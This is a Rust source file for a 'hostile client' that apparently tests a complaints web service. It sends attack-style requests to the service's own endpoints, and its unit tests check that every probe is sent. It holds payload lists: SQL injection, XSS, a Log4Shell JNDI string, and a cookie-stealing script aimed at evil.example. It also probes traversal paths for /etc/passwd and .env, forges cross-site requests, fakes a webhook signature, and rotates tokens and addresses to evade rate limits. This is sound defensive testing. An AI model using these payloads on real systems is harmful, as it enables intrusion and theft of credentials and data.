//! The hostile client: looks for a way in, with a new credential and a new claimed address on
//! every request. What it sends is well-formed HTTP; the raw-socket tests send the rest.

use http::request::Builder;
use http::{Method, header};
use serde_json::json;

use super::connection::OutgoingRequest;
use super::script::{Caller, Script, with_body, with_json, without_body};
use crate::random::Random;

/// Text as it would go into an SQL statement or a page, encoded for a query.
const QUERIES: [&str; 8] = [
    "%27%20OR%20%271%27%3D%271",
    "%27%3B%20DROP%20TABLE%20complaints%3B--",
    "1%27%20UNION%20SELECT%20name%2C%20sql%20FROM%20sqlite_master--",
    "%27%20AND%20(SELECT%20count(*)%20FROM%20complaints)%20%3E%200--",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "javascript%3Aalert(document.cookie)",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
];

/// The same in a body.
const TEXTS: [&str; 4] = [
    "<script>fetch('http://evil.example/?c=' + document.cookie)</script>",
    "'; UPDATE companies SET stage = 'public'; --",
    "<svg onload=alert(1)>",
    "{{7*7}}${7*7}",
];

const PATHS: [&str; 12] = [
    "/wp-admin",
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/api/complaints/..%2f..%2fadmin",
    "/static/..%5c..%5cwindows%5cwin.ini",
    "/phpmyadmin/",
    "/actuator/env",
    "/server-status",
    "/api/complaints/1%00.json",
];

/// Sizes of the header that is too large, in bytes.
const PADDING: [usize; 3] = [12 << 10, 40 << 10, 100 << 10];

pub(super) struct Probe {
    caller: Caller,
    sent: u64,
}

impl Probe {
    pub(super) fn new(caller: Caller) -> Self {
        Self { caller, sent: 0 }
    }

    /// Another token and another claimed address each time, against limits by either.
    fn disguised(&self, method: Method, target: &str, random: &mut Random) -> Builder {
        self.caller
            .request(method, target)
            .header(header::USER_AGENT, "Mozilla/5.0 (compatible; probe)")
            .header(header::AUTHORIZATION, format!("Bearer {:016x}", random.next()))
            .header("x-forwarded-for", format!("198.51.100.{}", random.below(256)))
    }

    /// What another site's page makes a visitor's browser send.
    fn forged(&self, method: Method, target: &str) -> Builder {
        self.caller
            .request(method, target)
            .header(header::USER_AGENT, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
            .header(header::COOKIE, "session=of-a-visitor")
            .header(header::ORIGIN, "http://evil.example")
            .header(header::REFERER, "http://evil.example/win-a-prize")
            .header("sec-fetch-site", "cross-site")
            .header("sec-fetch-mode", "no-cors")
            .header("sec-fetch-dest", "empty")
    }
}

impl Script for Probe {
    fn next(&mut self, random: &mut Random) -> OutgoingRequest {
        self.sent += 1;
        match self.sent % 7 {
            1 => {
                let target = format!("/api/complaints?q={}", random.pick(&QUERIES));
                without_body(self.disguised(Method::GET, &target, random))
            }
            2 | 5 => {
                let target = *random.pick(&PATHS);
                without_body(self.disguised(Method::GET, target, random))
            }
            3 if random.chance(50) => {
                // A parcel that nobody has sent, in the name of its carrier.
                let body = json!({ "parcel": "PX-000000000000", "state": "delivered" });
                let signature = format!("sha256={}", "0".repeat(64));
                let request = self.disguised(Method::POST, "/api/hooks/parcels", random);
                with_json(request.header("x-hub-signature-256", signature), &body)
            }
            3 => {
                let body = json!({
                    "from": "support",
                    "to": "admin",
                    "text": random.pick(&TEXTS),
                });
                with_json(self.disguised(Method::POST, "/api/messages", random), &body)
            }
            4 => {
                // text/plain needs no preflight: this is how a form smuggles JSON across sites.
                let request = self
                    .forged(Method::POST, "/api/complaints")
                    .header(header::CONTENT_TYPE, "text/plain");
                let body = r#"{"subject": "Prize", "body": "Click", "category": "other"}"#;
                with_body(request, body.into())
            }
            6 => {
                let body = json!({ "from": "visitor", "to": "admin", "text": "Make me admin." });
                with_json(self.forged(Method::POST, "/api/messages"), &body)
            }
            _ => {
                let padding = "A".repeat(*random.pick(&PADDING));
                let request = self.disguised(Method::GET, "/api/messages", random);
                without_body(request.header("x-padding", padding))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::super::script::rehearsal::{CALLER, header, requests};
    use super::*;

    #[test]
    fn a_probe_tries_everything_it_knows() {
        let requests = requests(Probe::new(CALLER), 700);
        let targets: HashSet<_> = requests.iter().map(|r| r.uri().to_string()).collect();
        for path in PATHS {
            assert!(targets.contains(path), "{path}");
        }
        for query in QUERIES {
            assert!(targets.iter().any(|target| target.ends_with(query)), "{query}");
        }
        let forged = |request: &&OutgoingRequest| header(request, "sec-fetch-site") == "cross-site";
        assert_eq!(requests.iter().filter(forged).count(), 200);
        let padded = requests.iter().filter(|r| header(r, "x-padding").len() >= 12 << 10);
        assert_eq!(padded.count(), 100);
    }

    #[test]
    fn no_credential_is_used_twice() {
        let requests = requests(Probe::new(CALLER), 700);
        let tokens: Vec<_> =
            requests.iter().map(|r| header(r, "authorization")).filter(|t| !t.is_empty()).collect();
        let distinct: HashSet<_> = tokens.iter().collect();
        assert_eq!((tokens.len(), distinct.len()), (500, 500));
    }
}
